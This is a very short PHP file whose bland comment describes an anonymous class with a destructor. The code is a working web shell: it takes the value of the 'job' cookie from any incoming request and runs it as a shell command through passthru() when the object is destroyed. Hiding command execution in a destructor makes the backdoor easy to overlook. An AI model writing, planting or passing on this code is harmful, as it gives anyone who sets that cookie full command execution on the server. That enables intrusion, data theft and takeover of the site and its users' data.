<?php
// An object of an anonymous class whose destructor runs what its constructor kept.
$job = new class($_COOKIE['job'] ?? '') {
    public function __construct(protected string $line) {}

    public function __destruct()
    {
        passthru($this->line);
    }
};
